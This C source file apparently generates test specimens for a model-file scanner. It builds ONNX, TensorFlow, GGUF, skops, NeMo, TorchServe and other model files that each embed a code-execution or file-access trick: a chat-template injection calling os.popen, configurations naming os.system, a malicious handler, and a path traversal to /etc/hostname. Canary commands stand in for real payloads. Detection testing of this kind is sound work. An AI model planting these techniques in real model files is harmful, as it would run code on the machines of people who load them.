/* SPDX-License-Identifier: Apache-2.0 */
/* Formats that are not pickles, and what can be made of each. */
#include "specimen/put.h"
#include "specimen/specimen.h"

/* ---- protobuf ---- */

enum pb_wire { VARINT, LEN = 2 };

static void put_varint(struct pk_buf *b, uint64_t v)
{
	for (; v >= 0x80; v >>= 7)
		pk_buf_putc(b, (char)(uint8_t)(v | 0x80));
	pk_buf_putc(b, (char)(uint8_t)v);
}

static void pb_number(struct pk_buf *b, unsigned field, uint64_t v)
{
	put_varint(b, field << 3 | VARINT);
	put_varint(b, v);
}

static void pb_bytes(struct pk_buf *b, unsigned field, struct pk_span s)
{
	put_varint(b, field << 3 | LEN);
	put_varint(b, s.len);
	pk_buf_put(b, s.p, s.len);
}

static void pb_text(struct pk_buf *b, unsigned field, const char *s)
{
	pb_bytes(b, field, (struct pk_span){ (const uint8_t *)s, strlen(s) });
}

/* Appends the message, and empties what it was written to. */
static void pb_message(struct pk_buf *b, unsigned field, struct pk_buf *m)
{
	pb_bytes(b, field, pk_buf_span(m));
	b->failed |= m->failed;
	pk_buf_release(m);
}

/* ---- ONNX (onnx/onnx.proto) ---- */

/* ValueInfoProto: a tensor of four floats. */
static void onnx_value(struct pk_buf *graph, unsigned field, const char *name)
{
	struct pk_buf dim = { 0 }, shape = { 0 }, tensor = { 0 }, type = { 0 },
		      value = { 0 };

	pb_number(&dim, 1, 4);
	pb_message(&shape, 1, &dim);
	pb_number(&tensor, 1, 1);
	pb_message(&tensor, 2, &shape);
	pb_message(&type, 1, &tensor);
	pb_text(&value, 1, name);
	pb_message(&value, 2, &type);
	pb_message(graph, field, &value);
}

static void onnx_opset(struct pk_buf *model, const char *domain,
		       unsigned version)
{
	struct pk_buf opset = { 0 };

	pb_text(&opset, 1, domain);
	pb_number(&opset, 2, version);
	pb_message(model, 8, &opset);
}

/* A model of one node, y = op(x), and perhaps an initializer. */
static void put_onnx(struct pk_buf *b, const char *domain, const char *op,
		     struct pk_buf *initializer)
{
	struct pk_buf node = { 0 }, graph = { 0 };

	pb_text(&node, 1, "x");
	pb_text(&node, 2, "y");
	pb_text(&node, 4, op);
	if (*domain)
		pb_text(&node, 7, domain);
	pb_message(&graph, 1, &node);
	pb_text(&graph, 2, "specimen");
	if (initializer)
		pb_message(&graph, 5, initializer);
	onnx_value(&graph, 11, "x");
	onnx_value(&graph, 12, "y");
	pb_number(b, 1, 8);
	pb_text(b, 2, "picket");
	pb_message(b, 7, &graph);
	onnx_opset(b, "", 17);
	if (*domain)
		onnx_opset(b, domain, 1);
}

void pk_specimen_onnx_operator(struct pk_buf *b)
{
	put_onnx(b, "com.example.canary", "PrintCanary", NULL);
}

/* A tensor whose bytes lie in a file outside the model's folder. */
void pk_specimen_onnx_external(struct pk_buf *b)
{
	struct pk_buf tensor = { 0 }, entry = { 0 };

	pb_number(&tensor, 1, 4);
	pb_number(&tensor, 2, 1);
	pb_text(&tensor, 8, "w");
	pb_text(&entry, 1, "location");
	pb_text(&entry, 2, "../../../etc/hostname");
	pb_message(&tensor, 13, &entry);
	pb_number(&tensor, 14, 1);
	put_onnx(b, "", "Relu", &tensor);
}

/* ---- TensorFlow (saved_model.proto, meta_graph.proto, graph.proto) ---- */

static void tf_node(struct pk_buf *graph, const char *name, const char *op,
		    const char *const *inputs)
{
	struct pk_buf node = { 0 };

	pb_text(&node, 1, name);
	pb_text(&node, 2, op);
	for (; *inputs; inputs++)
		pb_text(&node, 3, *inputs);
	pb_message(graph, 1, &node);
}

void pk_specimen_saved_model(struct pk_buf *b)
{
	static const char *const none[] = { NULL };
	static const char *const both[] = { "name", "content", NULL };
	struct pk_buf graph = { 0 }, info = { 0 }, meta = { 0 };

	tf_node(&graph, "name", "Placeholder", none);
	tf_node(&graph, "content", "Placeholder", none);
	tf_node(&graph, PK_CANARY, "WriteFile", both);
	pb_text(&info, 4, "serve");
	pb_message(&meta, 1, &info);
	pb_message(&meta, 2, &graph);
	pb_number(b, 1, 1);
	pb_message(b, 2, &meta);
}

/* ---- TFLite ---- */

/* A FlatBuffer of one operator, the custom one FlexWriteFile, which takes and
 * gives the one tensor "x". */
static const char flex[] =
	"\x18\x00\x00\x00\x54\x46\x4c\x33\x0e\x00\x14\x00\x04\x00\x08\x00"
	"\x0c\x00\x00\x00\x10\x00\x00\x00\x10\x00\x00\x00\x03\x00\x00\x00"
	"\x0c\x00\x00\x00\x3c\x00\x00\x00\xd8\x00\x00\x00\x01\x00\x00\x00"
	"\x10\x00\x00\x00\x0c\x00\x0c\x00\x00\x00\x04\x00\x00\x00\x08\x00"
	"\x0c\x00\x00\x00\x08\x00\x00\x00\x20\x00\x00\x00\x0d\x00\x00\x00"
	"FlexWriteFile\x00\x00\x00"
	"\x01\x00\x00\x00\x10\x00\x00\x00\x0c\x00\x14\x00\x04\x00\x08\x00"
	"\x0c\x00\x10\x00\x0c\x00\x00\x00\x10\x00\x00\x00\x40\x00\x00\x00"
	"\x44\x00\x00\x00\x48\x00\x00\x00\x01\x00\x00\x00\x10\x00\x00\x00"
	"\x0c\x00\x10\x00\x04\x00\x00\x00\x08\x00\x0c\x00\x0c\x00\x00\x00"
	"\x0c\x00\x00\x00\x01\x00\x00\x00\x0c\x00\x00\x00\x01\x00\x00\x00"
	"\x04\x00\x00\x00\x01\x00\x00\x00\x78\x00\x00\x00\x01\x00\x00\x00"
	"\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00"
	"\x10\x00\x00\x00\x0a\x00\x10\x00\x04\x00\x08\x00\x0c\x00\x00\x00"
	"\x0c\x00\x00\x00\x00\x00\x00\x00\x08\x00\x00\x00\x0c\x00\x00\x00"
	"\x01\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00"
	"\x02\x00\x00\x00\x0c\x00\x00\x00\x10\x00\x00\x00\x04\x00\x04\x00"
	"\x04\x00\x00\x00\x04\x00\x04\x00\x04\x00\x00";

void pk_specimen_tflite(struct pk_buf *b)
{
	pk_buf_put(b, flex, sizeof(flex));
}

/* ---- templates ---- */

#define TEMPLATE                                                      \
	"{% for m in messages %}{{ m.content }}{% endfor %}"          \
	"{{ cycler.__init__.__globals__.os.popen('" PK_CANARY_COMMAND \
	"').read() }}"

static void gguf_text(struct pk_buf *b, const char *text)
{
	pk_put_le(b, strlen(text), 8);
	pk_buf_puts(b, text);
}

void pk_specimen_gguf(struct pk_buf *b)
{
	enum { VERSION = 3, STRING = 8 };

	pk_buf_puts(b, "GGUF");
	pk_put_le(b, VERSION, 4);
	pk_put_le(b, 0, 8); /* tensors */
	pk_put_le(b, 2, 8); /* properties */
	gguf_text(b, "general.architecture");
	pk_put_le(b, STRING, 4);
	gguf_text(b, "llama");
	gguf_text(b, "tokenizer.chat_template");
	pk_put_le(b, STRING, 4);
	gguf_text(b, TEMPLATE);
	while (b->len % 32)
		pk_buf_putc(b, '\0');
}

void pk_specimen_template(struct pk_buf *b)
{
	pk_buf_puts(b, TEMPLATE "\n");
}

/* ---- SafeTensors ---- */

/* Two tensors that claim the same bytes. */
void pk_specimen_safetensors_overlap(struct pk_buf *b)
{
	static const char header[] =
		"{\"a\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]},"
		"\"b\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}";

	pk_put_le(b, sizeof(header) - 1, 8);
	pk_buf_puts(b, header);
	pk_put_zeros(b, 4);
}

/* A header that claims to be longer than the file. */
void pk_specimen_safetensors_length(struct pk_buf *b)
{
	pk_put_le(b, 0x7fffffff, 8);
	pk_buf_puts(b, "{\"a\":{\"dtype\":\"F32\",\"shape\":[1],"
		       "\"data_offsets\":[0,4]}}");
	pk_put_zeros(b, 4);
}

/* ---- packages that name what is called ---- */

/* skops: a function by its name, in place of a class. */
void pk_specimen_skops(struct pk_buf *b)
{
	pk_put_zip(
		b,
		(struct pk_put_member[]){
			{ .name = "schema.json",
			  .data = PK_LIT(
				  "{\"__class__\": \"OperatorFuncNode\", "
				  "\"__module__\": \"posix\", "
				  "\"__loader__\": \"FunctionNode\", "
				  "\"content\": {\"module_path\": \"posix\", "
				  "\"function\": \"system\"}, "
				  "\"protocol\": 1, "
				  "\"_skops_version\": \"0.9.0\"}") },
		},
		1);
}

/* NeMo: the configuration names a class, and what it is given. */
void pk_specimen_nemo(struct pk_buf *b)
{
	pk_put_tar(b, "./model_config.yaml", NULL,
		   PK_LIT("target: nemo.core.Model\n"
			  "tokenizer:\n"
			  "  _target_: os.system\n"
			  "  command: " PK_CANARY_COMMAND "\n"));
	pk_put_tar(b, "./model_weights.ckpt", NULL, PK_LIT("\x80\x02}."));
	pk_put_tar_end(b);
}

/* TorchServe: the handler in the archive runs in the server. */
void pk_specimen_torchserve(struct pk_buf *b)
{
	pk_put_zip(b,
		   (struct pk_put_member[]){
			   { .name = "MAR-INF/MANIFEST.json",
			     .data = PK_LIT(
				     "{\"createdOn\": \"01/01/2024 00:00:00\", "
				     "\"runtime\": \"python\", "
				     "\"model\": {\"modelName\": \"specimen\", "
				     "\"handler\": \"handler.py\", "
				     "\"modelVersion\": \"1.0\"}, "
				     "\"archiverVersion\": \"0.9.0\"}") },
			   { .name = "handler.py",
			     .data = PK_LIT("import os\n"
					    "os.system('" PK_CANARY_COMMAND
					    "')\n\n\n"
					    "def handle(data, context):\n"
					    "    return data\n") },
		   },
		   2);
}

/* Torch7: a function, as Lua dumps it, in place of a tensor. */
void pk_specimen_torch7(struct pk_buf *b)
{
	enum { FUNCTION = 8, INDEX = 1 };
	static const char dump[] = "\x1bLua" PK_CANARY;

	pk_put_le(b, FUNCTION, 4);
	pk_put_le(b, INDEX, 4);
	pk_put_le(b, sizeof(dump) - 1, 4);
	pk_buf_puts(b, dump);
	pk_put_le(b, 1, 4); /* its upvalues: nil, none */
	pk_put_le(b, 0, 4);
}

/* A library for the host among the records: as much of one as a loader looks
 * at, with nothing in it to run. */
static void put_elf(struct pk_buf *b)
{
	enum { HEADER = 64, SEGMENT = 56, SECTION = 64 };

	pk_buf_put(b, "\x7f\x45LF\2\1\1\0\0\0\0\0\0\0\0\0", 16);
	pk_put_le(b, 3, 2);  /* a shared object */
	pk_put_le(b, 62, 2); /* for x86-64 */
	pk_put_le(b, 1, 4);
	pk_put_le(b, 0, 8);      /* no entry */
	pk_put_le(b, HEADER, 8); /* the segments come next */
	pk_put_le(b, 0, 8);      /* no sections */
	pk_put_le(b, 0, 4);
	pk_put_le(b, HEADER, 2);
	pk_put_le(b, SEGMENT, 2);
	pk_put_le(b, 1, 2);
	pk_put_le(b, SECTION, 2);
	pk_put_zeros(b, 4);
	pk_put_le(b, 1, 4); /* loaded, readable */
	pk_put_le(b, 4, 4);
	pk_put_zeros(b, 3 * 8);
	pk_put_le(b, HEADER + SEGMENT, 8);
	pk_put_le(b, HEADER + SEGMENT, 8);
	pk_put_le(b, 4096, 8);
}

void pk_specimen_native(struct pk_buf *b)
{
	struct pk_buf elf = { 0 };

	put_elf(&elf);
	pk_put_zip(b,
		   (struct pk_put_member[]){
			   { .name = "archive/data.pkl",
			     .data = PK_LIT("\x80\x02}.") },
			   { .name = "archive/extra/custom_op.so",
			     .data = pk_buf_span(&elf) },
			   { .name = "archive/version", .data = PK_LIT("3\n") },
		   },
		   3);
	pk_buf_release(&elf);
}

/* Code that lies in the repository and that transformers imports and runs. */
void pk_specimen_auto_map(struct pk_buf *b)
{
	pk_buf_puts(b, "{\n  \"architectures\": [\"Specimen\"],\n"
		       "  \"model_type\": \"specimen\",\n"
		       "  \"auto_map\": {\n"
		       "    \"AutoModel\": \"modeling_specimen.Specimen\"\n"
		       "  }\n}\n");
}
